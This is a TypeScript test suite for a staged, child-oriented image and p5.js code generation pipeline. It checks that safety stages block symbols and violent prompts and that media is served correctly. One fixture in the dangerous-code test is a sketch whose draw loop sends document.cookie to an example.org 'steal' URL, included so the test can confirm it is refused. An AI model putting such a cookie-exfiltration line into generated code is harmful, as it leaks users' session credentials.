import t from 'tap'
import { startServer } from '../helper.js'

const post = async (url: string, body: unknown, headers: Record<string, string> = {}) => {
  const res = await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify(body) })
  return { status: res.status, headers: res.headers, body: await res.json() as Record<string, any> }
}

for (const websocket of [true, false]) {
  t.test(`a JSON run through all four stages, ComfyUI ${websocket ? 'with' : 'without'} its websocket`, async (t) => {
    const s = await startServer({}, {}, { websocket })
    t.teardown(s.close)
    const res = await post(`${s.url}/api/schema/pipeline/execute`, { schema: 'overdrive', input_text: 'ein Superheld mit einem Umhang aus Zuckerwatte', seed: 4242 })
    t.equal(res.status, 200)
    const b = res.body
    t.match(b, {
      status: 'success',
      run_id: /^[0-9a-f-]{36}$/,
      schema: 'overdrive',
      config_name: 'Overdrive',
      input_text: 'ein Superheld mit einem Umhang aus Zuckerwatte',
      final_output: String,
      steps_completed: ['stage1', 'stage2', 'optimization', 'stage3', 'stage4'],
      execution_time: Number,
      metadata: { optimization_applied: true, interception_result: /Zuckerwatte/, safety_level: 'kids' }
    })
    const m = b.media_output
    t.match(m, { config: 'sd35_large', status: 'success', run_id: b.run_id, media_type: 'image', media_stored: true, execution_time: Number, metadata: { seed: 4242, progress: websocket ? 'websocket' : 'polling' } })
    const workflow = s.comfy.submitted[0] as Record<string, { inputs: Record<string, unknown> }>
    t.equal(workflow['6']?.inputs.seed, 4242, 'the seed reached the sampler')
    t.match(workflow['3']?.inputs.text, /Zuckerwatte/, 'the prompt reached the positive encoder')
    t.match(workflow['4']?.inputs.text, /^blurry, low quality/, 'the default negative prompt reached the negative encoder')

    const image = await fetch(`${s.url}${m.output as string}`)
    t.equal(image.status, 200)
    t.equal(image.headers.get('content-type'), 'image/png')
    const bytes = Buffer.from(await image.arrayBuffer())
    t.same([...bytes.subarray(1, 4)], [0x50, 0x4e, 0x47], 'PNG bytes')
    const again = await fetch(`${s.url}/api/media/image/${b.run_id as string}/0`)
    t.equal(Buffer.compare(Buffer.from(await again.arrayBuffer()), bytes), 0, 'indexed media route serves the same file')

    const entities = await (await fetch(`${s.url}/api/pipeline/${b.run_id as string}/entities`)).json() as { entities: Array<{ type: string, url: string }> }
    t.same(entities.entities.map((e) => e.type), ['input', 'config_used', 'safety', 'stage1_output', 'interception', 'optimization', 'safety_pre_output', 'output_image'])
  })
}

t.test('Stage 3', async (t) => {
  const s = await startServer()
  t.teardown(s.close)
  await t.test('a kids-list hit that the model clears in context passes, and its negative prompt reaches the workflow', async (t) => {
    const res = await post(`${s.url}/api/schema/pipeline/stage3-4`, { stage2_result: 'a friendly monster having a picnic', output_config: 'sd35_large' })
    t.equal(res.status, 200)
    t.match(res.body, { success: true, media_output: { status: 'success' }, stage3_result: { safe: true, negative_prompt: 'gore, scary faces' }, run_id: String, stage3_time_ms: Number, stage4_time_ms: Number })
    const wf = s.comfy.submitted.at(-1) as Record<string, { inputs: Record<string, unknown> }>
    t.match(wf['4']?.inputs.text, /gore, scary faces$/, 'Stage 3 negative prompt joined to the default')
  })
  await t.test('a hit the model confirms is refused: status blocked in the JSON run, 403 on stage3-4', async (t) => {
    const before = s.comfy.submitted.length
    // A client's text now passes Stage 1 first; this model refuses only at Stage 3, so Stage 3's own refusal shows.
    const judge = s.sim.options.judge
    s.sim.set({ judge: (req) => JSON.stringify(req.format ?? null).includes('positive_prompt') ? judge(req) : true })
    t.teardown(() => s.sim.set({ judge }))
    // The text comes from the client (interception_result): Stage 2 is skipped, Stage 3 is not.
    const res = await post(`${s.url}/api/schema/pipeline/execute`, { schema: 'overdrive', input_text: 'ein Ritter', interception_result: 'a knight covered in blood', user_language: 'en' })
    t.equal(res.status, 200)
    t.match(res.body.media_output, { config: 'sd35_large', status: 'blocked', reason: String, media_type: 'image', safety_level: 'kids' })
    t.same(res.body.steps_completed, ['stage1', 'optimization', 'stage3'])
    const direct = await post(`${s.url}/api/schema/pipeline/stage3-4`, { stage2_result: 'a knight covered in blood', output_config: 'sd35_large', user_language: 'en' })
    t.equal(direct.status, 403)
    t.match(direct.body, { success: false, blocked_at_stage: 3, safety_level: 'kids', error: /In your idea someone gets hurt/ })
    t.equal(s.comfy.submitted.length, before, 'nothing reached ComfyUI')
  })
  await t.test('dangerous code is refused; safe code is stored as the p5 entity', async (t) => {
    s.sim.set({ reply: () => 'function setup() { createCanvas(400, 400) }\nfunction draw() { fetch("https://example.org/steal?c=" + document.cookie) }' })
    const bad = await post(`${s.url}/api/schema/pipeline/execute`, { schema: 'p5js_sketcher', input_text: 'ein tanzender Kreis', user_language: 'de' })
    t.match(bad.body.media_output, { status: 'blocked', media_type: 'code', reason: /fetch.*cookie/ })
    s.sim.set({ reply: () => '```js\nfunction setup() { createCanvas(400, 400) }\nfunction draw() { circle(200, 200, frameCount % 100) }\n```' })
    const good = await post(`${s.url}/api/schema/pipeline/execute`, { schema: 'p5js_sketcher', input_text: 'ein tanzender Kreis' })
    t.match(good.body.media_output, { status: 'success', media_type: 'code', output: /^function setup\(\)/ })
    const code = await fetch(`${s.url}/api/media/p5/${good.body.run_id as string}`)
    t.match(code.headers.get('content-type'), /javascript/)
    t.match(await code.text(), /circle\(200, 200/)
    s.sim.set({ reply: s.sim.options.reply })
  })
})

t.test('Stage 1 refusal of a JSON run is a 403 with the documented body', async (t) => {
  const s = await startServer()
  t.teardown(s.close)
  const res = await post(`${s.url}/api/schema/pipeline/execute`, { schema: 'overdrive', input_text: 'eine Hakenkreuzfahne' })
  t.equal(res.status, 403)
  t.match(res.body, { status: 'error', schema: 'overdrive', error: /§86a/, code: 'BLOCKED', metadata: { stage: 'pre_interception', category: 'symbols_86a', terms: ['hakenkreuzfahne'] } })
  const stage2 = await post(`${s.url}/api/schema/pipeline/stage2`, { schema: 'overdrive', input_text: 'a knight covered in blood', user_language: 'en' })
  t.equal(stage2.status, 403)
  t.match(stage2.body, { success: false, blocked_at_stage: 1, safety_level: 'kids' })
})

t.test('a text the client brings: optimization_result skips Stage 2 and the optimization, never the safety stages', async (t) => {
  const s = await startServer()
  t.teardown(s.close)
  const res = await post(`${s.url}/api/schema/pipeline/execute`, { schema: 'overdrive', input_text: 'ein Haus', optimization_result: 'a small red house by a lake', seed: 3 })
  t.equal(res.status, 200)
  t.same(res.body.steps_completed, ['stage1', 'stage3', 'stage4'])
  t.equal(res.body.final_output, 'a small red house by a lake')
  t.match((s.comfy.submitted[0] as Record<string, { inputs: Record<string, unknown> }>)['3']?.inputs.text, 'a small red house by a lake')
  const blocked = await post(`${s.url}/api/schema/pipeline/execute`, { schema: 'overdrive', input_text: 'ein Haus', optimization_result: 'a house covered in blood' })
  t.equal(blocked.status, 403, 'Stage 1 checks it as well as Stage 3')
  t.match(blocked.body, { code: 'BLOCKED', metadata: { stage: 'pre_interception' } })
})

t.test('the telephone config really chains in the JSON run', async (t) => {
  const s = await startServer()
  t.teardown(s.close)
  const res = await post(`${s.url}/api/schema/pipeline/execute`, { schema: 'telephone', input_text: 'ein Hund', output_config: 'p5js_code', safety_level: 'off' })
  t.equal(res.status, 200)
  t.equal(s.sim.arrivals.filter((p) => p.includes('Target language:')).length, 5)
})
